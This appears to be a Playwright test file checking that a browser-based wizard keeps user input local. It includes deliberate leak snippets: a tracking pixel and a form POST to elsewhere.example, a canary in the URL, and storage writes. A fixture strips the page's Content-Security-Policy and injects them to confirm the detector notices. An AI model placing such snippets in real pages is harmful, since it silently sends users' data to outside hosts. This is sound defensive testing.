"""Nothing typed or answered leaves the browser: shown on a whole journey; and a leak would be noticed."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.proof import prove
from tests.sampling import part
from wizard.model import Policy

from .serving import Faults, served
from .typist import Typist, most_letters
from .watching import CANARY, watched
from .wizard_driver import Wizard

pytestmark = pytest.mark.browser

TAB_ICON = "/assets/favicon."
"""Fetched by the browser for its tab, when it likes."""

SEND = "const f = document.body.appendChild(document.createElement('form'));"
LEAKS = {
    "a pixel": ("new Image().src = `http://elsewhere.example/pixel.png?${C}`", ["asked elsewhere"]),
    "a form action": (
        f"{SEND} f.action = 'http://elsewhere.example/'; f.target = '_blank'; f.method = 'post';"
        "f.innerHTML = `<input name=text value=${C}>`; f.submit()",
        ["asked elsewhere", "sent elsewhere"],
    ),
    "a parameter in the address": ("history.replaceState(null, '', `?reason=${C}`)", ["address of"]),
    "a request to our own server": ("fetch(`notes?text=${btoa(C)}`).catch(() => {})", ["in the network log"]),
    "what a page can keep": (
        "document.title = localStorage.draft = sessionStorage.draft = window.name = document.cookie = C;"
        "indexedDB.open('drafts').onupgradeneeded = (e) =>"
        " e.target.result.createObjectStore('t', { autoIncrement: true }).put({ text: C })",
        ["localStorage of", "sessionStorage of", "IndexedDB of", "title of", "cookies", "on disk as text"],
    ),
}


def test_a_whole_journey_with_text_in_every_field_leaks_nothing(
    policy: Policy, browser: Browser, chromium: str, site: Path, whole: bool, tmp_path: Path
) -> None:
    """Three cases with the most letters; in an ordinary run two letters of the first of them."""
    typist, faults = Typist(), Faults()
    after_start: list[str] = []
    with (
        served(site, faults) as address,
        watched(browser.browser_type, chromium, address, tmp_path) as watch,
    ):
        for scenario, letters in part(most_letters(policy, 3), 3, whole):
            page = watch.context.new_page()
            page.on("dialog", lambda dialog: dialog.accept())
            wizard = Wizard(page, address).open()
            page.locator("[data-wizard][data-ready]").wait_for()
            page.locator("meta[data-kept]").wait_for(state="attached")  # all that is kept for times offline
            before = len(faults.asked)
            typist.case(wizard, scenario, letters if whole else {*sorted(letters)[:2]})
            after_start += (path for path in faults.asked[before:] if not path.startswith(TAB_ICON))
            watch.look(page)
        page = watch.context.new_page()
        typist.other_rooms(page, address)
        watch.look(page)
    leaks = watch.leaks()
    assert leaks == []
    assert after_start == []
    assert not faults.reports
    if not whole:
        return  # the figures on the page are those of the whole journey
    letters_made = sum(step.startswith("letter:") for step in typist.steps)
    prove(
        "privacy",
        policy,
        steps=len(typist.steps),
        fields=typist.fields,
        letters=letters_made,
        files=typist.files,
        requests_after_start=len(after_start),
        leaks=len(leaks),
        refusals=len(faults.reports),
    )


@pytest.fixture
def leaky(site: Path, tmp_path: Path) -> Path:
    """The site without its protection, and a script in the page of the questions that leaks on purpose."""
    folder = tmp_path / "leaky"
    (folder / "wizard").mkdir(parents=True)
    for one in site.iterdir():
        if one.name not in ("web.config", "wizard"):
            (folder / one.name).symlink_to(one)
    for one in (site / "wizard").iterdir():
        if one.name != "index.html":
            (folder / "wizard" / one.name).symlink_to(one)
    html = (site / "wizard" / "index.html").read_text(encoding="utf-8")
    html = html.replace("Content-Security-Policy", "x").replace(
        "</body>", '<script src="leak.js"></script></body>'
    )
    (folder / "wizard" / "index.html").write_text(html, encoding="utf-8")
    return folder


@pytest.mark.one_in(2)
@pytest.mark.parametrize("leak", LEAKS)
def test_a_leak_put_in_on_purpose_is_noticed(
    browser: Browser, chromium: str, leaky: Path, tmp_path: Path, leak: str
) -> None:
    program, told = LEAKS[leak]
    (leaky / "wizard" / "leak.js").write_text(f"const C = '{CANARY}'; setTimeout(() => {{ {program} }});")
    with served(leaky) as address, watched(browser.browser_type, chromium, address, tmp_path) as watch:
        page = watch.context.pages[0]
        page.goto(f"{address}/wizard/index.html")
        page.wait_for_timeout(1000)
        watch.look(page)
    leaks = watch.leaks()
    for what in told:
        assert [one for one in leaks if one.startswith(what)], leaks


def test_the_whole_journey_works_without_a_network_once_the_engine_is_up(
    policy: Policy, alone: Wizard
) -> None:
    alone.answer("no")
    alone.page.locator("[data-wizard][data-ready]").wait_for()
    alone.page.context.set_offline(True)
    case = next(s for s in policy.scenarios if dict(s.expect).get("letters"))
    alone.answer_all(dict(case.facts))
    alone.go(f"letter:{dict(case.expect)['letters'][0]}")


@pytest.fixture
def rooms(site: Path) -> list[str]:
    """One page of each room of the guide."""
    return [
        min(room.glob("*.html"), key=lambda page: page.name).relative_to(site).as_posix()
        for room in sorted(site.iterdir())
        if room.is_dir() and list(room.glob("*.html"))
    ]


def test_pages_of_the_guide_ask_only_our_server(
    page: Page, address: str, rooms: list[str], whole: bool
) -> None:
    for path in part(rooms, 3, whole):
        answer = page.goto(f"{address}/{path}", wait_until="networkidle")
        assert answer is not None and answer.ok, path
